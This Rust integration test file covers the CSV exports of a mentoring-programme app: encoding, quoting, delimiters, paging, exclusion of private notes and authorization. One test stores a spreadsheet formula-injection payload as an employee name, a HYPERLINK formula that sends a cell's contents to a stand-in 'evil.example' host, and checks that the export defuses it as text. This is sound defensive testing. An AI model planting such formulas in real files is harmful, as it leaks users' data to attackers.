//! CSV exports: what an admin downloads is what a spreadsheet reads (a BOM,
//! RFC 4180 quoting, CRLF, the delimiter configured), row for row; pages
//! join without a seam; the authorization is GraphQL's.

use chrono::{TimeZone as _, Utc};
use entity::enums::{
    EnrolmentStatus, PairingStatus, ParticipantRole, ProgrammeStatus, SessionStatus,
};
use entity::{employee, enrolment, session_topic, skill};
use reqwest::StatusCode;
use reqwest::header::{CONTENT_DISPOSITION, CONTENT_TYPE};
use sea_orm::{ActiveModelTrait, ColumnTrait, EntityTrait, QueryFilter, Set};
use serde_json::Value;
use uuid::Uuid;

use crate::both;
use crate::helpers::{
    Backend, Person, TestApp, insert_approved, insert_employee, insert_pairing, insert_programme,
    insert_session,
};

const BOM: &[u8] = b"\xEF\xBB\xBF";

/// A downloaded export: status, Content-Type, Content-Disposition, body.
struct Download {
    status: StatusCode,
    content_type: String,
    disposition: String,
    body: Vec<u8>,
}

async fn download(app: &TestApp, token: Option<&str>, path: &str) -> Download {
    let mut request = app.client().get(format!("{}{path}", app.address));
    if let Some(token) = token {
        request = request.bearer_auth(token);
    }
    let response = request.send().await.unwrap();
    let header = |name| {
        response
            .headers()
            .get(name)
            .map(|v: &reqwest::header::HeaderValue| v.to_str().unwrap().to_owned())
            .unwrap_or_default()
    };
    let (status, content_type, disposition) = (
        response.status(),
        header(CONTENT_TYPE),
        header(CONTENT_DISPOSITION),
    );
    Download {
        status,
        content_type,
        disposition,
        body: response.bytes().await.unwrap().to_vec(),
    }
}

/// The records of a CSV body, read by the csv crate as a spreadsheet would:
/// the BOM must be there, every line must end in CRLF.
fn records(body: &[u8], delimiter: u8) -> Vec<Vec<String>> {
    let text = body
        .strip_prefix(BOM)
        .expect("a UTF-8 byte-order mark first");
    assert!(text.ends_with(b"\r\n"), "RFC 4180 lines end in CRLF");
    let bare_newlines = text
        .windows(2)
        .filter(|pair| pair[1] == b'\n' && pair[0] != b'\r')
        .count();
    assert_eq!(bare_newlines, 0, "every line ends in CRLF");
    csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(false)
        .from_reader(text)
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// Column `name` of `row`, by the header.
fn cell<'a>(header: &[String], row: &'a [String], name: &str) -> &'a str {
    let at = header.iter().position(|h| h == name).expect(name);
    &row[at]
}

/// A programme with three enrolments, a pairing of a mentor and two
/// mentees (names with accents, a delimiter and quotes), one held session
/// on LinkedIn: answers the programme and the pairing.
async fn programme_with_a_pairing(app: &TestApp) -> (Uuid, Uuid) {
    let programme = insert_programme(&app.db, "Exports", ProgrammeStatus::Active).await;
    let mentor = insert_employee(&app.db, Person::new("Zoe Lefevre", 2)).await;
    let renamed = |id, name: &'static str| {
        employee::ActiveModel {
            id: Set(id),
            display_name: Set(name.to_owned()),
            ..Default::default()
        }
        .update(&app.db)
    };
    renamed(mentor, "Zoë Lefèvre").await.unwrap();
    let first = insert_employee(&app.db, Person::new("Max Muller", 9)).await;
    renamed(first, "Max Müller").await.unwrap();
    let second = insert_employee(&app.db, Person::new("Ann Quote", 8)).await;
    renamed(second, "Ann \"Q\"; Comma, Jr").await.unwrap();
    insert_approved(&app.db, programme, mentor, ParticipantRole::Mentor, 2, None).await;
    for mentee in [first, second] {
        insert_approved(&app.db, programme, mentee, ParticipantRole::Mentee, 1, None).await;
    }
    let pairing = insert_pairing(
        &app.db,
        programme,
        mentor,
        &[first, second],
        PairingStatus::Active,
    )
    .await;
    let at = Utc.with_ymd_and_hms(2026, 10, 6, 9, 0, 0).unwrap();
    let session = insert_session(&app.db, pairing, at, SessionStatus::Held, Some("secret")).await;
    let linkedin = skill::Entity::find()
        .filter(skill::Column::Slug.eq("linkedin"))
        .one(&app.db)
        .await
        .unwrap()
        .expect("the catalogue holds linkedin");
    session_topic::ActiveModel {
        session_id: Set(session),
        skill_id: Set(linkedin.id),
    }
    .insert(&app.db)
    .await
    .unwrap();
    (programme, pairing)
}

async fn admins_download_each_table_as_a_spreadsheet_reads_it(backend: Backend) {
    let app = TestApp::spawn(backend.clone()).await;
    let (programme, pairing) = programme_with_a_pairing(&app).await;
    let admin = app.token(None, &["admin"]).await;
    let path = |table: &str| format!("/exports/programmes/{programme}/{table}.csv");

    let enrolments = download(&app, Some(&admin), &path("enrolments")).await;
    assert_eq!(enrolments.status, StatusCode::OK);
    assert!(
        enrolments
            .content_type
            .starts_with("text/csv; charset=utf-8")
    );
    assert_eq!(
        enrolments.disposition,
        format!("attachment; filename=\"programme-{programme}-enrolments.csv\"")
    );
    let rows = records(&enrolments.body, b',');
    let (header, rows) = rows.split_first().unwrap();
    assert_eq!(rows.len(), 3);
    let mut names: Vec<&str> = rows.iter().map(|r| cell(header, r, "name")).collect();
    names.sort_unstable();
    assert_eq!(names, ["Ann \"Q\"; Comma, Jr", "Max Müller", "Zoë Lefèvre"]);
    assert!(rows.iter().all(|r| cell(header, r, "status") == "APPROVED"));

    let pairings = records(
        &download(&app, Some(&admin), &path("pairings")).await.body,
        b',',
    );
    let (header, rows) = pairings.split_first().unwrap();
    assert_eq!(rows.len(), 1);
    assert_eq!(cell(header, &rows[0], "pairing_id"), pairing.to_string());
    assert_eq!(cell(header, &rows[0], "status"), "ACTIVE");
    assert_eq!(cell(header, &rows[0], "mentor"), "Zoë Lefèvre");
    assert_eq!(
        cell(header, &rows[0], "last_session_at"),
        "2026-10-06T09:00:00Z"
    );
    let mentees = cell(header, &rows[0], "mentees");
    assert!(mentees.contains("Max Müller") && mentees.contains("Ann \"Q\"; Comma, Jr"));
    // The same health GraphQL reports to an admin.
    let health = app
        .query_ok(
            &admin,
            "query($id: UUID!) { pairing(id: $id) { health } }",
            serde_json::json!({ "id": pairing }),
        )
        .await;
    assert_eq!(
        cell(header, &rows[0], "health"),
        health["pairing"]["health"]
    );

    let sessions = download(&app, Some(&admin), &path("sessions")).await;
    let text = String::from_utf8(sessions.body.clone()).unwrap();
    assert!(!text.contains("secret"), "private notes are never exported");
    let sessions = records(&sessions.body, b',');
    let (header, rows) = sessions.split_first().unwrap();
    assert_eq!(rows.len(), 1);
    assert_eq!(cell(header, &rows[0], "starts_at"), "2026-10-06T09:00:00Z");
    assert_eq!(cell(header, &rows[0], "status"), "HELD");
    assert_eq!(
        cell(header, &rows[0], "topics"),
        "Professional networking (LinkedIn)"
    );

    // French Excel: semicolons, and a name holding one is quoted.
    let french = TestApp::spawn_with(backend, &[("EXPORT_CSV_DELIMITER", ";")]).await;
    let (programme, _) = programme_with_a_pairing(&french).await;
    let admin = french.token(None, &["admin"]).await;
    let body = download(
        &french,
        Some(&admin),
        &format!("/exports/programmes/{programme}/enrolments.csv"),
    )
    .await
    .body;
    assert!(
        String::from_utf8_lossy(&body).contains("\"Ann \"\"Q\"\"; Comma, Jr\""),
        "RFC 4180 quoting"
    );
    let rows = records(&body, b';');
    assert_eq!(rows[0][0], "enrolment_id");
    assert_eq!(rows.len(), 4);
}

async fn a_name_a_spreadsheet_would_run_is_written_as_text(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let programme = insert_programme(&app.db, "Formulas", ProgrammeStatus::Active).await;
    let person = insert_employee(&app.db, Person::new("Eve Excel", 3)).await;
    employee::ActiveModel {
        id: Set(person),
        display_name: Set("=HYPERLINK(\"https://evil.example/?\"&A2)".to_owned()),
        ..Default::default()
    }
    .update(&app.db)
    .await
    .unwrap();
    insert_approved(&app.db, programme, person, ParticipantRole::Mentor, 1, None).await;
    let admin = app.token(None, &["admin"]).await;
    let path = format!("/exports/programmes/{programme}/enrolments.csv");
    let rows = records(&download(&app, Some(&admin), &path).await.body, b',');
    let (header, rows) = rows.split_first().unwrap();
    assert_eq!(
        cell(header, &rows[0], "name"),
        "'=HYPERLINK(\"https://evil.example/?\"&A2)"
    );
}

async fn pages_join_without_a_seam(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let programme = insert_programme(&app.db, "Large", ProgrammeStatus::Active).await;
    // One full page of enrolments and a few more (domain::exports::PAGE).
    let count = tandem::domain::exports::PAGE as usize + 3;
    let now = Utc::now();
    let mut people = Vec::with_capacity(count);
    let mut enrolments = Vec::with_capacity(count);
    for i in 0..count {
        let id = Uuid::now_v7();
        people.push(employee::ActiveModel {
            id: Set(id),
            external_id: Set(format!("L-{i}")),
            email: Set(format!("l{i}@corp.example")),
            given_name: Set(None),
            family_name: Set(None),
            display_name: Set(format!("Person {i}")),
            job_title: Set(None),
            department_id: Set(None),
            manager_id: Set(None),
            generation: Set(entity::enums::Generation::Unknown),
            seniority_level: Set(Some(3)),
            timezone: Set("Europe/Paris".to_owned()),
            status: Set(entity::enums::EmployeeStatus::Active),
            availability_version: Set(0),
            created_at: Set(now),
            updated_at: Set(now),
            terminated_at: Set(None),
            erased_at: Set(None),
        });
        enrolments.push(enrolment::ActiveModel {
            id: Set(Uuid::now_v7()),
            programme_id: Set(programme),
            employee_id: Set(id),
            role: Set(ParticipantRole::Mentee),
            status: Set(EnrolmentStatus::Pending),
            consented_at: Set(now),
            motivation: Set(Some("private words".to_owned())),
            training_completed_at: Set(None),
            supervisor_id: Set(None),
            capacity: Set(1),
            decided_at: Set(None),
            decision_reason: Set(None),
            withdrawn_at: Set(None),
            created_at: Set(now),
            updated_at: Set(now),
        });
    }
    tandem::domain::seed::insert_chunked::<employee::Entity, _>(&app.db, people, 18)
        .await
        .unwrap();
    tandem::domain::seed::insert_chunked::<enrolment::Entity, _>(&app.db, enrolments, 15)
        .await
        .unwrap();
    let admin = app.token(None, &["admin"]).await;
    let body = download(
        &app,
        Some(&admin),
        &format!("/exports/programmes/{programme}/enrolments.csv"),
    )
    .await
    .body;
    assert_eq!(body.windows(3).filter(|w| *w == BOM).count(), 1, "one BOM");
    let rows = records(&body, b',');
    let (header, rows) = rows.split_first().unwrap();
    assert_eq!(rows.len(), count, "every enrolment, once");
    let mut external: Vec<&str> = rows
        .iter()
        .map(|r| cell(header, r, "employee_external_id"))
        .collect();
    external.sort_unstable();
    external.dedup();
    assert_eq!(external.len(), count, "no row twice");
    assert!(!String::from_utf8_lossy(&body).contains("private words"));
}

async fn exports_are_authorized_as_graphql_is(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (programme, _) = programme_with_a_pairing(&app).await;
    let admin = app.token(None, &["admin"]).await;
    let analyst = app.token(None, &["analyst"]).await;
    let mentor = app.token(Some(&Person::email("Zoe Lefevre")), &[]).await;
    let table = format!("/exports/programmes/{programme}/pairings.csv");
    let metrics = format!("/exports/programmes/{programme}/metrics.csv");
    let code = |d: &Download| -> String {
        let body: Value = serde_json::from_slice(&d.body).unwrap();
        body["errors"][0]["extensions"]["code"]
            .as_str()
            .unwrap()
            .to_owned()
    };

    let anonymous = download(&app, None, &table).await;
    assert_eq!(anonymous.status, StatusCode::UNAUTHORIZED);
    assert_eq!(code(&anonymous), "UNAUTHENTICATED");
    for token in [&mentor, &analyst] {
        let refused = download(&app, Some(token), &table).await;
        assert_eq!(refused.status, StatusCode::FORBIDDEN);
        assert_eq!(code(&refused), "FORBIDDEN");
    }
    let refused = download(&app, Some(&mentor), &metrics).await;
    assert_eq!(refused.status, StatusCode::FORBIDDEN);
    for token in [&analyst, &admin] {
        assert_eq!(
            download(&app, Some(token), &metrics).await.status,
            StatusCode::OK
        );
    }
    let unknown = Uuid::now_v7();
    let missing = download(
        &app,
        Some(&admin),
        &format!("/exports/programmes/{unknown}/pairings.csv"),
    )
    .await;
    assert_eq!(missing.status, StatusCode::NOT_FOUND);
    assert_eq!(code(&missing), "NOT_FOUND");
    let bad = download(&app, Some(&admin), "/exports/programmes/nope/pairings.csv").await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
    assert_eq!(code(&bad), "BAD_USER_INPUT");
    let notes = format!("/exports/programmes/{programme}/notes.csv");
    assert_eq!(
        download(&app, Some(&admin), &notes).await.status,
        StatusCode::NOT_FOUND
    );
    let window = format!("{metrics}?from=2026-13-01");
    let refused = download(&app, Some(&analyst), &window).await;
    assert_eq!(refused.status, StatusCode::BAD_REQUEST);
    assert_eq!(code(&refused), "BAD_USER_INPUT");
}

both!(
    admins_download_each_table_as_a_spreadsheet_reads_it,
    a_name_a_spreadsheet_would_run_is_written_as_text,
    pages_join_without_a_seam,
    exports_are_authorized_as_graphql_is,
);
